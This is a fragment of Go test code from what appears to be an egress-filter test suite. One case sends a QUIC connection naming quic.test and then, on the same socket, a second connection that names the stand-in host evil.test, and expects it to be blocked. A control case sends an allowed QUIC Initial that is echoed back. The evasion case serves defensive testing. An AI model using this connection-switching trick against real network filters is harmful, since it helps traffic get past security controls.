		ID: "l7-quic-second-connection", Category: "l7", Layer: LayerL7,
		Description: "a QUIC connection naming quic.test, then on the same socket a second connection (another connection ID) naming evil.test",
		Expect:      Blocked, Audit: AuditDeny, Aims: []string{"app-udp"}, SetupHits: 1,
		run: func(ctx context.Context, a *attacker) result {
			second, err := quicInitial("evil.test")
			if err != nil {
				return erroredf("precondition: build the Initial: %v", err)
			}
			return afterFirstConnection(ctx, a, second, "the second connection's Initial (evil.test)")
		},
	}
}

// quicControl sends a QUIC Initial that names quic.test to quic.test:443:
// it must pass the check and reach the echo server behind the name.
func quicControl() Attempt {
	return Attempt{
		ID: "control-quic", Category: "control", Layer: LayerControl,
		Description: "a QUIC Initial naming quic.test to quic.test:443/udp (approved for QUIC): it reaches the server",
		Expect:      Allowed, Audit: AuditAllow, Aims: []string{"app-udp"},
		run: func(ctx context.Context, a *attacker) result {
			p, err := quicInitial(internet.QUICName)
			if err != nil {
				return erroredf("precondition: build the Initial: %v", err)
			}
			reply, err := a.udpExchange(ctx, hostPort(internet.QUICName, 443), p)
			if err != nil {
				return blockedf("%v", err)
			}
			if !bytes.Equal(reply, p) {
				return erroredf("the echo server answered %d bytes, not the %d sent", len(reply), len(p))
			}
			return allowedf("the Initial reached the server and came back (%d bytes)", len(reply))
		},
	}
}
